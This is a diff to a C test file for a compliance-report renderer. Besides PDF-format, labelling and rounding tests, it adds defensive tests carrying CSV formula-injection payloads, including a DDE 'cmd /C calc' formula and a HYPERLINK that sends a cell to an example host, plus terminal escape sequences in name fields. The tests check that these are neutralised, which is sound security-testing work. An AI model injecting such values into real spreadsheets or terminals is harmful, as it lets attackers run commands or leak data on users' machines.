@@ -292,7 +292,9 @@ Test (render, format_names_parse)
     cr_assert_eq (format, ML_FORMAT_HTML);
     cr_assert_eq (ml_format_parse ("text", &format), 0);
     cr_assert_eq (format, ML_FORMAT_TEXT);
-    cr_assert_eq (ml_format_parse ("pdf", &format), ML_EINVAL);
+    cr_assert_eq (ml_format_parse ("pdf", &format), 0);
+    cr_assert_eq (format, ML_FORMAT_PDF);
+    format = ML_FORMAT_TEXT;
     cr_assert_eq (ml_format_parse ("TEXT", &format), ML_EINVAL);
     cr_assert_eq (format, ML_FORMAT_TEXT, "a bad name changed the format");
     cr_assert_str_eq (ml_format_name (ML_FORMAT_HTML), "html");
@@ -505,7 +507,7 @@ Test (render, text_bulletin_watchlist_cadre_line_up)
 
     report = s_fixture ("cadre");
     text = s_render (report, ML_FORMAT_TEXT);
-    cr_assert_eq (s_check_tables (text), 2, "%s", text);
+    cr_assert_eq (s_check_tables (text), 3, "%s", text);     //  metrics by system, rules, texts
     cr_assert (strstr (text, "姓名 Name: 张建国 (P001)"));
     cr_assert (strstr (text, "达标率 Rate 92.3%"));
     json_decref (report);
@@ -632,7 +634,7 @@ Test (render, bad_reports_fail_with_a_message_and_write_nothing)
 Test (render, unknown_format_fails_and_writes_nothing)
 {
     json_t *report = s_fixture ("rollup");
-    const int formats [] = { ML_FORMAT_HTML + 1, 99, -1 };
+    const int formats [] = { ML_FORMAT_PDF + 1, 99, -1 };
     for (size_t i = 0; i < sizeof formats / sizeof formats [0]; i++) {
         char err [256] = "", want [64];
         int rc;
@@ -683,4 +685,335 @@ Test (render, sparse_reports_render_in_every_format)
         }
         json_decref (report);
     }
+}
+
+//  -------------------------------------------------------------------------
+//  Issue 11: the cadre annex on A4 with Chinese labels; statuses, orgs, rounding
+
+//  Every metric key the collector writes (collector/ml_metrics.c and ml_report.c s_metrics).
+static const char *const s_metric_keys [] = {
+    "research_plans", "research_trips", "research_days", "stationed_days", "unannounced_trips",
+    "research_reports", "work_items", "results_exchanges", "contact_visits", "practical_deeds",
+    "reception_days", "reception_announced", "reception_fixed_point", "reception_open",
+    "reception_key_appointment", "reception_thematic", "reception_visit_with_case",
+    "reception_home_return_visit", "talks", "talks_team_member", "talks_department",
+    "talks_contact_point", "talks_party_member", "talks_masses", "talks_member", "talks_remote",
+    "opinions", "petitions", "commitments_annual", "commitments_instant", "rep_studio_reception",
+    "rep_advice", "rep_service", "rep_exchange", "rep_inspection", "rep_committee_meeting",
+    "rep_proposal", "reception_months", "reception_half_months", "contact_points",
+    "paired_families", NULL
+};
+
+//  Whether KEY shows in TEXT as a word of its own (not inside another key, not in a CSS name).
+static int
+s_shows_key (const char *text, const char *key)
+{
+    size_t len = strlen (key);
+    for (const char *at = strstr (text, key); at; at = strstr (at + 1, key)) {
+        char before = at > text? at [-1]: ' ', after = at [len];
+        int word = before == '_' || (before >= 'a' && before <= 'z');
+        word |= after == '_' || (after >= 'a' && after <= 'z') || after == '"' || after == '-';
+        if (!word)
+            return 1;
+    }
+    return 0;
+}
+
+//  The widest row of an HTML page's tables: the most cells (th or td) in one <tr>.
+static size_t
+s_widest_row (const char *html)
+{
+    size_t widest = 0;
+    for (const char *tr = strstr (html, "<tr"); tr; tr = strstr (tr + 1, "<tr")) {
+        const char *end = strstr (tr, "</tr>");
+        cr_assert (end);
+        size_t cells = 0;
+        for (const char *at = tr; at && at < end; at = strstr (at + 1, "<t"))
+            if (strncmp (at, "<td", 3) == 0 || strncmp (at, "<th", 3) == 0)
+                cells += strncmp (at, "<thead", 6) != 0;
+        if (cells > widest)
+            widest = cells;
+    }
+    return widest;
+}
+
+Test (render, cadre_annex_names_every_metric_in_chinese_grouped_by_system)
+{
+    json_t *report = s_fixture ("cadre");
+    json_t *metrics = json_object_get (json_object_get (report, "person"), "metrics");
+    for (size_t i = 0; s_metric_keys [i]; i++)
+        json_object_set_new (metrics, s_metric_keys [i], json_integer ((json_int_t) i + 1));
+    cr_assert_geq (json_object_size (metrics), 26);
+    for (ml_format_t format = ML_FORMAT_TEXT; format <= ML_FORMAT_HTML; format++) {
+        char *text = s_render (report, format);
+        for (size_t i = 0; s_metric_keys [i]; i++)
+            cr_assert_not (s_shows_key (text, s_metric_keys [i]), "%s shows the raw key %s",
+                           ml_format_name (format), s_metric_keys [i]);
+        free (text);
+    }
+    //  Text: one row per system, its metrics side by side; tables line up.
+    char *text = s_render (report, ML_FORMAT_TEXT);
+    cr_assert_eq (s_check_tables (text), 3, "%s", text);
+    const char *line = s_line_with (text, "提前公布接访");
+    cr_assert (strncmp (line, "接访", 6) == 0 && strstr (line, "定点接访") && strstr (line, "接访天数"),
+               "reception metrics are not on the 接访 row: %s", line);
+    cr_assert (strncmp (s_line_with (text, "与班子成员谈心"), "谈心", 6) == 0);
+    cr_assert (strncmp (s_line_with (text, "驻室接待"), "党代表", 9) == 0);
+    free (text);
+    //  HTML: no table row wider than the rule table (six columns); metrics by system.
+    char *html = s_render (report, ML_FORMAT_HTML);
+    s_check_html (html);
+    cr_assert_leq (s_widest_row (html), 6, "a table row of %zu cells", s_widest_row (html));
+    cr_assert (strstr (html, "<tr><th>接访</th><td>"), "no 接访 row in the metrics table");
+    cr_assert_null (strstr (html, "min-width: 16mm"));
+    cr_assert (strstr (html, "<body class=\"annex\">"), "the annex lacks its one-page layout");
+    json_decref (report);
+    free (html);
+}
+
+Test (render, every_status_and_severity_is_translated_in_every_format)
+{
+    json_t *report = s_fixture ("unit_annual");
+    json_t *rules = json_object_get (json_array_get (json_object_get (report, "persons"), 0), "rules");
+    json_object_set_new (json_array_get (rules, 0), "severity", json_string ("info"));
+    json_object_set_new (json_array_get (rules, 1), "status", json_string ("exempted"));
+    json_object_set_new (json_array_get (rules, 2), "status", json_string ("no_data"));
+    char *text = s_render (report, ML_FORMAT_CSV);
+    json_t *records = s_csv_parse (text);
+    size_t severity = s_csv_column (records, "性质"), status = s_csv_column (records, "状态");
+    cr_assert_str_eq (s_csv_field (records, 1, severity), "参考");
+    cr_assert_str_eq (s_csv_field (records, 2, status), "已豁免");
+    cr_assert_str_eq (s_csv_field (records, 3, status), "无数据");
+    cr_assert_null (strstr (text, "info"));
+    json_decref (records);
+    free (text);
+    for (ml_format_t format = ML_FORMAT_TEXT; format <= ML_FORMAT_HTML; format++) {
+        text = s_render (report, format);
+        cr_assert (strstr (text, "已豁免") && strstr (text, "无数据"), "%s", ml_format_name (format));
+        cr_assert_not (s_shows_key (text, "exempted") || s_shows_key (text, "no_data"),
+                       "%s shows a raw status", ml_format_name (format));
+        free (text);
+    }
+    json_decref (report);
+
+    report = s_fixture ("watchlist");
+    json_object_set_new (json_array_get (json_object_get (report, "rows"), 0), "severity",
+                         json_string ("info"));
+    for (ml_format_t format = ML_FORMAT_CSV; format <= ML_FORMAT_HTML; format++) {
+        text = s_render (report, format);
+        cr_assert (strstr (text, "参考"), "%s: info untranslated", ml_format_name (format));
+        cr_assert_not (s_shows_key (text, "info"), "%s shows 'info'", ml_format_name (format));
+        free (text);
+    }
+    json_decref (report);
+}
+
+Test (render, persons_show_their_org_by_name_with_its_code)
+{
+    json_t *report = s_fixture ("unit_annual");
+    char *text = s_render (report, ML_FORMAT_TEXT);
+    cr_assert (strstr (s_line_with (text, "欧阳明华 (P002)"), "党组织 Org: 医务党支部 (B01)"), "%s", text);
+    free (text);
+    text = s_render (report, ML_FORMAT_HTML);
+    cr_assert (strstr (text, "医务党支部 (B01)"));
+    free (text);
+    //  Without a name (an older collector): the code alone.
+    json_object_del (json_array_get (json_object_get (report, "persons"), 1), "org_name");
+    text = s_render (report, ML_FORMAT_TEXT);
+    cr_assert (strstr (s_line_with (text, "欧阳明华 (P002)"), "党组织 Org: B01"));
+    free (text);
+    json_decref (report);
+
+    report = s_fixture ("cadre");
+    text = s_render (report, ML_FORMAT_TEXT);
+    cr_assert (strstr (text, "党组织 Org: 院党委 (D01)\n"), "%s", text);
+    free (text);
+    text = s_render (report, ML_FORMAT_HTML);
+    cr_assert (strstr (text, "党组织 Org 院党委 (D01)"));
+    free (text);
+    json_decref (report);
+}
+
+Test (render, heat_map_and_tables_round_alike_half_up)
+{
+    json_t *report = s_fixture ("rollup");
+    json_t *h001 = json_array_get (json_object_get (report, "units"), 0);
+    //  0.947 and 0.9475 (whose double lies just below): 94.7 % and 94.8 % everywhere.
+    json_object_set_new (h001, "compliance", json_real (0.947));
+    json_t *sys1 = json_array_get (json_object_get (h001, "systems"), 0);
+    json_object_set_new (sys1, "met", json_integer (379));
+    json_object_set_new (sys1, "unmet", json_integer (21));
+    json_object_set_new (sys1, "checked", json_integer (400));
+    char *html = s_render (report, ML_FORMAT_HTML);
+    cr_assert (strstr (html, ">94.7%</text>"), "heat map cell of 0.947 is not 94.7%%");
+    cr_assert (strstr (html, ">94.8%</text>"), "heat map cell of 379/400 is not 94.8%%");
+    cr_assert (strstr (html, "<td class=\"n\">94.7%</td>"), "table cell of 0.947 is not 94.7%%");
+    cr_assert_null (strstr (html, ">94%</text>"));
+    free (html);
+    char *text = s_render (report, ML_FORMAT_TEXT);
+    cr_assert (strstr (s_line_with (text, "H001 "), "94.7%"));
+    free (text);
+    json_object_set_new (h001, "compliance", json_real (0.9475));
+    html = s_render (report, ML_FORMAT_HTML);
+    cr_assert (strstr (html, "<td class=\"n\">94.8%</td>"), "0.9475 is not rounded half up");
+    free (html);
+    text = s_render (report, ML_FORMAT_CSV);
+    json_t *records = s_csv_parse (text);
+    cr_assert_str_eq (s_csv_field (records, 1, s_csv_column (records, "达标率")), "94.8%");
+    json_decref (records);
+    free (text);
+    json_decref (report);
+}
+
+//  -------------------------------------------------------------------------
+//  Issue 16: formula cells in CSV, control characters in text
+
+//  What a user may type in a ledger that a spreadsheet would run.
+static const char *const s_formulas [] = {
+    "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+1", "@SUM(A1:A9)", "-cmd|' /C calc'!A0",
+    "\tTAB", "\rCR", NULL
+};
+
+//  Asserts that every field of RECORDS is either the report's own or a neutralised formula:
+//  no field starts with = + - @ TAB CR unless it is a number; returns how many start with '.
+static size_t
+s_assert_no_formula (const json_t *records, const char *kind)
+{
+    size_t guarded = 0, row, col;
+    json_t *record, *field;
+    json_array_foreach (records, row, record)
+        json_array_foreach (record, col, field) {
+            const char *value = json_string_value (field);
+            if (value [0] == '\'')
+                guarded++;
+            if (!value [0] || !strchr ("=+-@\t\r", value [0]))
+                continue;
+            char *end;
+            strtod (value, &end);
+            cr_assert (*end == 0 || strcmp (end, "%") == 0,
+                       "%s csv: row %zu column %zu is a live formula: %s", kind, row, col, value);
+        }
+    return guarded;
+}
+
+//  Whether one field of RECORDS is exactly "'" followed by FORMULA.
+static int
+s_has_guarded (const json_t *records, const char *formula)
+{
+    size_t row, col;
+    json_t *record, *field;
+    json_array_foreach (records, row, record)
+        json_array_foreach (record, col, field) {
+            const char *value = json_string_value (field);
+            if (value [0] == '\'' && strcmp (value + 1, formula) == 0)
+                return 1;
+        }
+    return 0;
+}
+
+Test (render, csv_neutralises_formulas_in_text_of_every_report_kind)
+{
+    struct { const char *fixture; const char *array; const char *keys [3]; } kinds [] = {
+        { "unit_annual", "persons", { "name", "person", NULL } },
+        { "rollup", "units", { "unit_name", "unit", NULL } },
+        { "cadre", NULL, { "name", "person", NULL } },
+        { "bulletin", "units", { "unit_name", "unit", NULL } },
+        { "watchlist", "rows", { "name", "text", "unit_name" } },
+    };
+    for (size_t k = 0; k < sizeof kinds / sizeof kinds [0]; k++) {
+        json_t *report = s_fixture (kinds [k].fixture);
+        json_t *items = kinds [k].array? json_object_get (report, kinds [k].array): NULL;
+        size_t count = items? json_array_size (items): 1, used = 0;
+        //  Each item gets a formula in each key, round the list of formulas.
+        for (size_t i = 0; i < count; i++) {
+            json_t *item = items? json_array_get (items, i): json_object_get (report, "person");
+            for (size_t key = 0; key < 3 && kinds [k].keys [key]; key++)
+                if (json_is_string (json_object_get (item, kinds [k].keys [key])))
+                    json_object_set_new (item, kinds [k].keys [key],
+                                         json_string (s_formulas [used++ % 6]));
+        }
+        if (k == 0) {
+            //  A number the report computed stays a number, even negative.
+            json_t *rule = json_array_get (json_object_get (
+                json_array_get (json_object_get (report, "persons"), 0), "rules"), 0);
+            json_object_set_new (rule, "actual", json_integer (-3));
+        }
+        char *text = s_render (report, ML_FORMAT_CSV);
+        json_t *records = s_csv_parse (text);
+        cr_assert_gt (s_assert_no_formula (records, kinds [k].fixture), 0, "%s", kinds [k].fixture);
+        for (size_t f = 0; f < used && f < 6; f++)
+            cr_assert (s_has_guarded (records, s_formulas [f]), "%s csv: %s is not neutralised",
+                       kinds [k].fixture, s_formulas [f]);
+        if (k == 0)
+            cr_assert_str_eq (s_csv_field (records, 1, s_csv_column (records, "实际")), "-3");
+        json_decref (records);
+        json_decref (report);
+        free (text);
+    }
+}
+
+//  Asserts that TEXT holds no control character but LF: no ESC, BEL, CR, DEL or C1.
+static void
+s_assert_no_controls (const char *text, const char *what)
+{
+    for (const unsigned char *at = (const unsigned char *) text; *at; at++) {
+        cr_assert (*at >= 0x20 || *at == '\n', "%s: control 0x%02x at byte %zu", what, *at,
+                   (size_t) (at - (const unsigned char *) text));
+        cr_assert (*at != 0x7F, "%s: DEL at byte %zu", what, (size_t) (at - (const unsigned char *) text));
+        cr_assert (!(at [0] == 0xC2 && at [1] >= 0x80 && at [1] < 0xA0), "%s: a C1 control", what);
+    }
+}
+
+Test (render, text_never_writes_control_characters_of_names)
+{
+    const char *evil = "张\x1b]0;pwned\a\x1b[2J\r李\x7f\xc2\x9b" "31m王";
+    json_t *report = s_fixture ("unit_annual");
+    json_object_set_new (report, "unit_name", json_string (evil));
+    json_object_set_new (report, "unit", json_string ("H\x1b[1m1"));
+    json_t *person = json_array_get (json_object_get (report, "persons"), 0);
+    json_object_set_new (person, "name", json_string (evil));
+    json_object_set_new (person, "org_name", json_string (evil));
+    json_object_set_new (json_object_get (person, "metrics"), "x\x1b[5m", json_integer (1));
+    char *text = s_render (report, ML_FORMAT_TEXT);
+    s_assert_no_controls (text, "unit-annual");
+    cr_assert (strstr (text, "单位 Unit: 张 ]0;pwned  [2J 李  31m王 (H [1m1)"), "%s", text);
+    free (text);
+    json_decref (report);
+
+    report = s_fixture ("cadre");
+    person = json_object_get (report, "person");
+    json_object_set_new (person, "name", json_string (evil));
+    json_object_set_new (person, "org", json_string ("B\r01"));
+    json_object_set_new (report, "unit_name", json_string (evil));
+    json_object_set_new (json_object_get (person, "metrics"), "\x1b[5m", json_integer (1));
+    text = s_render (report, ML_FORMAT_TEXT);
+    s_assert_no_controls (text, "cadre");
+    cr_assert (strstr (text, "姓名 Name: 张 ]0;pwned  [2J 李  31m王 (P001)"), "%s", text);
+    free (text);
+    json_decref (report);
+
+    const char *kinds [] = { "rollup", "bulletin", "watchlist" };
+    for (size_t i = 0; i < 3; i++) {
+        report = s_fixture (kinds [i]);
+        json_object_set_new (report, "rules_version", json_string (evil));
+        json_object_set_new (report, "period", json_string (evil));
+        json_object_set_new (report, "as_of", json_string (evil));
+        text = s_render (report, ML_FORMAT_TEXT);
+        s_assert_no_controls (text, kinds [i]);
+        free (text);
+        json_decref (report);
+    }
+}
+
+Test (render, text_safe_blanks_controls_and_cuts_on_a_character)
+{
+    char buf [64];
+    cr_assert_str_eq (ml_text_safe ("a\x1b[31mb\a\r\n\tc\x7f", buf, sizeof buf), "a [31mb    c ");
+    cr_assert_str_eq (ml_text_safe ("\xc2\x9b" "1m张", buf, sizeof buf), " 1m张");   //  C1 CSI
+    cr_assert_str_eq (ml_text_safe ("\xff" "a", buf, sizeof buf), "?a");            //  not UTF-8
+    cr_assert_str_eq (ml_text_safe ("\xef\xbf\xbd", buf, sizeof buf), "\xef\xbf\xbd");  //  U+FFFD itself
+    cr_assert_str_eq (ml_text_safe (NULL, buf, sizeof buf), "");
+    cr_assert_str_eq (ml_text_safe ("张三", buf, 5), "张");                           //  never half a character
+    char in_place [] = "x\x1b" "y";
+    cr_assert_str_eq (ml_text_safe (in_place, in_place, sizeof in_place), "x y");
 }
